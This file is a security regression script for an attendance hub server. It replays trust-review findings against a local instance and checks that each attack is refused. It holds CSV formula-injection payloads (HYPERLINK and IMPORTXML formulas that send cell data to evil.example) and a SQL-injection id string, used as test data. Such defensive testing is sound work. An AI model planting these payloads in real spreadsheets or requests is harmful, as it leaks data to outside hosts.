@@ -1,0 +1,359 @@
+#!/usr/bin/env python3
+"""The hub under attack: each finding of the hub's trust review (issue 15) tried against a real
+`rollcall-hub serve` process with the request that exploited it; each must be refused or harmless.
+
+    tools/attack.py [--bin DIR]
+
+Findings covered so far (the rest of the review is listed in README, "Trust model"):
+  3. a device's huge minutes_late must not crash the hub when a report is read (it trapped every time);
+  4. revocation: a removed device, a replaced device token, a revoked staff token and a removed badge
+     key stop working with the next request (admin API and CLI);
+  5. CSV formula injection: names, ids, groups, excuses and methods beginning with = + - @ in every CSV;
+  6. event ids: a door that learns another door's event id and sends it first must not make the real
+     event a "duplicate" (lost); an id that is not a UUID is rejected;
+  8. the admin token: never on the command line or in $ROLLCALL_HUB_ADMIN_TOKEN, at least 32
+     characters, from a file others cannot read; the hub refuses to start otherwise;
+  9. answers: no-store, no-referrer, nosniff on every answer, a restrictive CSP on HTML, and a 500 that
+     names nothing internal.
+Exits 1 if any check fails.
+"""
+import argparse
+import csv
+import io
+import json
+import os
+import shutil
+import socket
+import sqlite3
+import subprocess
+import sys
+import tempfile
+import time
+import urllib.error
+import urllib.request
+import uuid
+from datetime import datetime, timedelta, timezone
+
+HERE = os.path.dirname(os.path.abspath(__file__))
+REPO = os.path.dirname(HERE)
+sys.path.insert(0, HERE)
+import doorlab  # noqa: E402
+
+FAILURES = []
+SESSION = "s-attack-7b"
+FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+2", "-2+3", "@SUM(1+1)", "\t=1+1"]
+
+
+def check(condition, what, detail=""):
+    print(f"{'ok  ' if condition else 'FAIL'} {what}{(': ' + str(detail)[:400]) if detail and not condition else ''}",
+          flush=True)
+    if not condition:
+        FAILURES.append(what)
+
+
+def stamp(moment):
+    return moment.strftime("%Y-%m-%dT%H:%M:%SZ")
+
+
+def call(url, method="GET", token=None, body=None):
+    """(status, headers, text); never raises for an HTTP status, None status when the hub did not answer."""
+    data = json.dumps(body).encode() if body is not None else None
+    headers = {"Content-Type": "application/json"}
+    if token:
+        headers["Authorization"] = f"Bearer {token}"
+    request = urllib.request.Request(url, data=data, method=method, headers=headers)
+    try:
+        with urllib.request.urlopen(request, timeout=10) as response:
+            return response.status, response.headers, response.read().decode()
+    except urllib.error.HTTPError as error:
+        return error.code, error.headers, error.read().decode()
+    except (urllib.error.URLError, ConnectionError, socket.timeout) as error:
+        return None, {}, str(error)
+
+
+def provision(hub, now):
+    """A room, the door, three students (two with formula names) in group '=7B'-like groups, a session running."""
+    hub.admin("POST", "/rooms", {"id": "B12", "timezone": "UTC"})
+    hub.admin("POST", "/devices", {"id": doorlab.DEVICE, "room": "B12", "token": doorlab.TOKEN})
+    people = [("p-1", FORMULAS[0]), (FORMULAS[1], "Plain Name"), ("p-3", FORMULAS[3]), ("v-1", FORMULAS[2])]
+    for person, name in people:
+        role = "volunteer" if person == "v-1" else "student"
+        hub.admin("POST", "/people", {"id": person, "name": name, "role": role,
+                                      "groups": [] if role == "volunteer" else ["=7B"], "templates": []})
+    hub.admin("POST", "/sessions", {"room": "B12", "sessions": [{
+        "id": SESSION, "group": "=7B", "start": stamp(now - timedelta(minutes=50)),
+        "end": stamp(now - timedelta(minutes=5)), "roster": ["p-1", FORMULAS[1], "p-3"]}]})
+
+
+def device_events(hub, events):
+    return call(hub.url + "/api/v1/device/events", "POST", doorlab.TOKEN, {"events": events})
+
+
+def attack_overflow(hub, now):
+    """3. minutes_late near 2^63 from a device, then every report that sums it."""
+    start = now - timedelta(minutes=50)
+    events = [{"id": str(uuid.uuid4()), "kind": "checkin", "person": person, "session": SESSION,
+               "at": stamp(start + timedelta(minutes=20)), "status": "late", "minutes_late": 2 ** 63 - 1,
+               "method": FORMULAS[4] if person == "p-1" else "face", "source": "signage:door-b12"}
+              for person in ["p-1", FORMULAS[1]]]
+    status, _, text = device_events(hub, events)
+    check(status is not None and status < 500, "3: a batch with minutes_late 2^63-1 is answered, not a crash",
+          f"{status} {text}")
+    window = "from=" + stamp(now - timedelta(days=1)) + "&to=" + stamp(now + timedelta(days=1))
+    for path in [f"/api/v1/reports/sessions/{SESSION}", f"/api/v1/reports/sessions/{SESSION}?format=csv",
+                 f"/api/v1/reports/sessions/{SESSION}/summary", f"/api/v1/reports/groups/%3D7B?{window}",
+                 f"/api/v1/reports/groups/%3D7B?{window}&format=csv", f"/reports/groups/%3D7B?{window}"]:
+        for attempt in range(2):  # read twice: a trap used to kill the hub on every read
+            status, _, text = call(hub.url + path, token=doorlab.ADMIN)
+            check(status is not None and status < 500, f"3: {path} (read {attempt + 1}) answers", f"{status} {text}")
+    check(hub.process.poll() is None, "3: the hub process is still running after the reports were read")
+
+
+def attack_revocation(hub, binary):
+    """4. revoke what was leaked or stolen; effective on the next request."""
+    manifest = hub.url + "/api/v1/device/manifest"
+    stolen = "stolen-door-token-" + uuid.uuid4().hex
+    hub.admin("POST", "/devices", {"id": "door-stolen", "room": "B12", "token": stolen})
+    check(call(manifest, token=stolen)[0] == 200, "4: a door's token works before it is removed")
+    status, _, text = call(hub.url + "/api/v1/admin/devices/door-stolen", "DELETE", doorlab.ADMIN)
+    check(status == 200, "4: the admin removes the stolen door", f"{status} {text}")
+    check(call(manifest, token=stolen)[0] == 401, "4: the removed door's token is refused on its next request")
+    status, _, _ = call(hub.url + "/api/v1/admin/devices/door-stolen", "DELETE", doorlab.ADMIN)
+    check(status == 404, "4: removing it again: 404", status)
+
+    old, new = "leaked-door-token-" + uuid.uuid4().hex, "fresh-door-token-" + uuid.uuid4().hex
+    hub.admin("POST", "/devices", {"id": "door-rotate", "room": "B12", "token": old})
+    status, _, text = call(hub.url + "/api/v1/admin/devices/door-rotate/token", "PUT", doorlab.ADMIN, {"token": new})
+    check(status == 200, "4: the admin replaces a leaked device token", f"{status} {text}")
+    check(call(manifest, token=old)[0] == 401 and call(manifest, token=new)[0] == 200,
+          "4: the old token is refused, the new one works")
+
+    staff = "leaked-staff-token-" + uuid.uuid4().hex
+    hub.admin("POST", "/tokens", {"token": staff, "scope": "staff", "label": "leaked laptop"})
+    report = hub.url + f"/api/v1/reports/sessions/{SESSION}"
+    check(call(report, token=staff)[0] == 200, "4: a staff token works before it is revoked")
+    status, _, text = call(hub.url + "/api/v1/admin/tokens", token=doorlab.ADMIN)
+    tokens = json.loads(text) if status == 200 else []
+    check(status == 200 and staff not in text and all(len(t.get("id", "")) == 16 for t in tokens),
+          "4: the token list shows ids and labels, never a token", text)
+    ids = [t["id"] for t in tokens if t.get("label") == "leaked laptop"]
+    status, _, text = call(hub.url + f"/api/v1/admin/tokens/{ids[0] if ids else 'none'}", "DELETE", doorlab.ADMIN)
+    check(status == 200, "4: the admin revokes the staff token by its id", f"{status} {text}")
+    check(call(report, token=staff)[0] == 401, "4: the revoked staff token is refused on its next request")
+
+    key = "A" * 43
+    hub.admin("POST", "/badge-keys", {"kid": "k-attack", "public_key": key})
+    status, _, text = call(hub.url + "/api/v1/device/badge-keys", token=doorlab.TOKEN)
+    before = json.loads(text) if status == 200 else {}
+    status, _, text = call(hub.url + "/api/v1/admin/badge-keys/k-attack", "DELETE", doorlab.ADMIN)
+    check(status == 200, "4: the admin removes a badge key", f"{status} {text}")
+    status, _, text = call(hub.url + "/api/v1/device/badge-keys", token=doorlab.TOKEN)
+    after = json.loads(text) if status == 200 else {}
+    check("k-attack" in json.dumps(before) and "k-attack" not in json.dumps(after)
+          and after.get("version", 0) > before.get("version", 0),
+          "4: the doors' key list no longer has it, under a new version", f"{before} -> {after}")
+
+    # From the hub's machine, on its database, while it runs.
+    cli = "cli-door-token-" + uuid.uuid4().hex
+    hub.admin("POST", "/devices", {"id": "door-cli", "room": "B12", "token": cli})
+    done = subprocess.run([binary, "device", "remove", "door-cli", "--db", hub.db], capture_output=True, text=True)
+    check(done.returncode == 0 and call(manifest, token=cli)[0] == 401,
+          "4: `rollcall-hub device remove` on the running hub's database: the token is refused",
+          done.stdout + done.stderr)
+    listed = subprocess.run([binary, "token", "list", "--db", hub.db], capture_output=True, text=True)
+    check(listed.returncode == 0 and staff not in listed.stdout, "4: `rollcall-hub token list` shows no token",
+          listed.stdout + listed.stderr)
+
+
+def formula_cells(text):
+    """The cells of a CSV document that a spreadsheet would run as a formula."""
+    bad = []
+    for row in csv.reader(io.StringIO(text)):
+        for cell in row:
+            lead = cell.lstrip(" ")
+            if cell[:1] in ("\t", "\r") or (lead[:1] in ("=", "+", "@")) or (lead[:1] == "-" and not is_number(lead)):
+                bad.append(cell)
+    return bad
+
+
+def is_number(text):
+    try:
+        float(text)
+        return True
+    except ValueError:
+        return False
+
+
+def attack_csv(hub, now):
+    """5. formula cells in every CSV the hub writes."""
+    status, _, text = call(hub.url + f"/api/v1/staff/sessions/{SESSION}/excuses", "PUT", doorlab.ADMIN,
+                           {"person": "p-3", "reason": "=IMPORTXML(CONCAT(\"http://evil.example/\",A2),\"//a\")"})
+    check(status == 200, "5: staff set an excuse whose reason is a formula", f"{status} {text}")
+    entry = now - timedelta(hours=3)
+    events = [{"id": str(uuid.uuid4()), "kind": "entry", "person": "v-1", "at": stamp(entry), "method": "qr",
+               "source": "signage:door-b12"},
+              {"id": str(uuid.uuid4()), "kind": "exit", "person": "v-1", "at": stamp(entry + timedelta(hours=1)),
+               "entry_at": stamp(entry), "duration_seconds": 3600, "method": "qr", "source": "signage:door-b12"}]
+    status, _, text = device_events(hub, events)
+    check(status == 200, "5: the volunteer's visit is stored", f"{status} {text}")
+    window = "from=" + stamp(now - timedelta(days=1)) + "&to=" + stamp(now + timedelta(days=1))
+    for path in [f"/api/v1/reports/sessions/{SESSION}?format=csv", f"/api/v1/reports/groups/%3D7B?{window}&format=csv",
+                 f"/api/v1/reports/volunteers?{window}&format=csv"]:
+        status, _, text = call(hub.url + path, token=doorlab.ADMIN)
+        rows = list(csv.reader(io.StringIO(text))) if status == 200 else []
+        check(status == 200 and len(rows) >= 2, f"5: {path} is a CSV with lines", f"{status} {text}")
+        bad = formula_cells(text)
+        check(not bad, f"5: {path} has no cell a spreadsheet would run", bad)
+    # The values are kept, only neutralised: the name is still there, after the quote.
+    status, _, text = call(hub.url + f"/api/v1/reports/sessions/{SESSION}?format=csv", token=doorlab.ADMIN)
+    check(("'" + FORMULAS[0]) in next(iter([c for row in csv.reader(io.StringIO(text)) for c in row
+                                             if FORMULAS[0] in c]), ""),
+          "5: a neutralised cell keeps its text after a leading '", text)
+
+
+def attack_event_ids(hub, now):
+    """6. another door sends a stolen event id first; then the real door sends its event with that id."""
+    other_token = "second-door-token-" + uuid.uuid4().hex
+    hub.admin("POST", "/devices", {"id": "door-b12-2", "room": "B12", "token": other_token})
+    stolen = str(uuid.uuid4())
+    at = stamp(now - timedelta(minutes=45))
+    forged = {"id": stolen, "kind": "checkin", "person": "p-3", "session": SESSION, "at": at, "status": "present",
+              "minutes_late": 0, "method": "face", "source": "signage:door-b12-2"}
+    status, _, text = call(hub.url + "/api/v1/device/events", "POST", other_token, {"events": [forged]})
+    check(status == 200, "6: the other door's batch is answered", f"{status} {text}")
+    real = {**forged, "person": "p-1", "source": "signage:door-b12"}
+    status, _, text = device_events(hub, [real])
+    answer = json.loads(text) if status == 200 else {}
+    check(answer.get("accepted") == [stolen], "6: the real door's event with the same id is accepted, not a duplicate",
+          f"{status} {text}")
+    status, _, text = device_events(hub, [real])
+    answer = json.loads(text) if status == 200 else {}
+    check(answer.get("duplicate") == [stolen], "6: the real door sending it again is a duplicate", f"{status} {text}")
+    for bad in ["not-a-uuid", "", "' OR 1=1 --", "x" * 5000]:
+        status, _, text = device_events(hub, [{**real, "id": bad}])
+        answer = json.loads(text) if status == 200 else {}
+        rejected = [r.get("id") for r in answer.get("rejected", [])]
+        check(status == 400 or rejected == [bad], f"6: the id {bad[:20]!r} is rejected", f"{status} {text[:200]}")
+
+
+def start(binary, db, args, env=None):
+    """`serve` with extra arguments: (process, first line or the error)."""
+    port = doorlab.free_port()
+    process = subprocess.Popen([binary, "serve", "--db", db, "--port", str(port), *args],
+                               stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
+                               env={**os.environ, **(env or {})})
+    try:
+        out, err = process.communicate(timeout=5)
+        return process, (out + err).strip(), port
+    except subprocess.TimeoutExpired:
+        return process, "running", port
+
+
+def attack_admin_token(binary, work):
+    """8. the admin token's sources and strength, with the real binary."""
+    db = os.path.join(work, "token.sqlite")
+    good = os.path.join(work, "admin-token")
+    token = "t0k3n-" + uuid.uuid4().hex  # 38 characters
+    with open(os.open(good, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600), "w") as handle:
+        handle.write(token + "\n")
+    short = os.path.join(work, "short-token")
+    with open(os.open(short, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600), "w") as handle:
+        handle.write("letmein\n")
+    shared = os.path.join(work, "shared-token")
+    shutil.copy(good, shared)
+    os.chmod(shared, 0o644)
+    refused = [
+        ("--admin-token on the command line (ps shows it)", ["--admin-token", token], None),
+        ("an empty ROLLCALL_HUB_ADMIN_TOKEN", [], {"ROLLCALL_HUB_ADMIN_TOKEN": ""}),
+        ("ROLLCALL_HUB_ADMIN_TOKEN in the environment", [], {"ROLLCALL_HUB_ADMIN_TOKEN": token}),
+        ("a 7-character token file", ["--admin-token-file", short], None),
+        ("a token file every user can read", ["--admin-token-file", shared], None),
+        ("a token file that is not there", ["--admin-token-file", good + ".missing"], None),
+    ]
+    for what, args, env in refused:
+        process, output, _ = start(binary, db, args, env)
+        if output == "running":
+            process.kill()
+            process.wait()
+        check(process.returncode == 78 and "listening" not in output, f"8: refuses to start with {what} (exit 78)",
+              f"exit {process.returncode}: {output}")
+    process, output, port = start(binary, db, ["--admin-token-file", good])
+    try:
+        check(output == "running", "8: starts with a 38-character token file (0600)", output)
+        time.sleep(0.5)
+        url = f"http://127.0.0.1:{port}/api/v1/admin/rooms"
+        status, _, _ = call(url, "POST", token, {"id": "R1", "timezone": "UTC"})
+        check(status == 200, "8: the admin API takes that token", status)
+        for guess in ["", token[:-1], token + "x", token.upper()]:
+            status, _, _ = call(url, "POST", guess or None, {"id": "R2", "timezone": "UTC"})
+            check(status == 401, f"8: a wrong admin token ({len(guess)} characters) gets 401", status)
+        with open(f"/proc/{process.pid}/cmdline", "rb") as handle:
+            check(token.encode() not in handle.read(), "8: the token is not on the hub's command line")
+    finally:
+        process.terminate()
+        process.wait(timeout=10)
+
+
+def attack_answers(hub, now):
+    """9. headers on every answer, CSP on HTML, and a 500 that shows nothing internal."""
+    window = "from=" + stamp(now - timedelta(days=1)) + "&to=" + stamp(now + timedelta(days=1))
+    answers = {
+        "manifest": call(hub.url + "/api/v1/device/manifest", token=doorlab.TOKEN),
+        "gallery": call(hub.url + "/api/v1/device/gallery?since=0", token=doorlab.TOKEN),
+        "report json": call(hub.url + f"/api/v1/reports/sessions/{SESSION}", token=doorlab.ADMIN),
+        "report csv": call(hub.url + f"/api/v1/reports/sessions/{SESSION}?format=csv", token=doorlab.ADMIN),
+        "group page": call(hub.url + f"/reports/groups/%3D7B?{window}", token=doorlab.ADMIN),
+        "no token": call(hub.url + "/api/v1/device/manifest"),
+        "no route": call(hub.url + "/wp-admin/"),
+    }
+    for what, (status, headers, _) in answers.items():
+        check(status is not None and headers.get("Cache-Control") == "no-store"
+              and headers.get("X-Content-Type-Options") == "nosniff"
+              and headers.get("Referrer-Policy") == "no-referrer",
+              f"9: {what} ({status}) carries no-store, nosniff and no-referrer", dict(headers or {}))
+    status, headers, text = answers["group page"]
+    policy = headers.get("Content-Security-Policy", "") if headers else ""
+    check(status == 200 and "default-src 'none'" in policy and "frame-ancestors 'none'" in policy
+          and "script-src" not in policy, "9: the HTML page has a CSP allowing no script, frame or request", policy)
+    # Break the database underneath the running hub: a 500 must name nothing of it.
+    with sqlite3.connect(hub.db) as db:
+        db.execute("DROP TABLE checkinRecord")
+    status, headers, text = call(hub.url + f"/api/v1/reports/sessions/{SESSION}", token=doorlab.ADMIN)
+    leaks = [word for word in ["checkinRecord", "no such table", "SQLite", "sqlite", hub.db, "GRDB"] if word in text]
+    check(status == 500 and not leaks and "reference" in text, "9: a 500 says only that it failed, with a reference",
+          f"{status} {text}")
+    status, _, _ = call(hub.url + "/api/v1/device/manifest", token=doorlab.TOKEN)
+    check(status == 200 and hub.process.poll() is None, "9: and the hub goes on answering", status)
+
+
+def main():
+    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
+    parser.add_argument("--bin", default=os.path.join(REPO, ".build", "debug"))
+    options = parser.parse_args()
+    binary = os.path.join(options.bin, "rollcall-hub")
+    if not os.access(binary, os.X_OK):
+        sys.exit(f"attack: no {binary}: build it with `swift build --product rollcall-hub`")
+    work = tempfile.mkdtemp(prefix="rollcall-attack-")
+    now = datetime.now(timezone.utc).replace(microsecond=0)
+    hub = doorlab.Hub(binary, os.path.join(work, "hub.sqlite"))
+    try:
+        hub.process = None
+        hub.start()
+        provision(hub, now)
+        attack_overflow(hub, now)
+        attack_csv(hub, now)
+        attack_event_ids(hub, now)
+        attack_revocation(hub, binary)
+        attack_admin_token(binary, work)
+        attack_answers(hub, now)
+    finally:
+        hub.stop()
+        shutil.rmtree(work, ignore_errors=True)
+    if FAILURES:
+        print(f"attack: {len(FAILURES)} checks failed", file=sys.stderr)
+        sys.exit(1)
+    print("attack: every attack was refused or harmless")
+
+
+if __name__ == "__main__":
+    main()
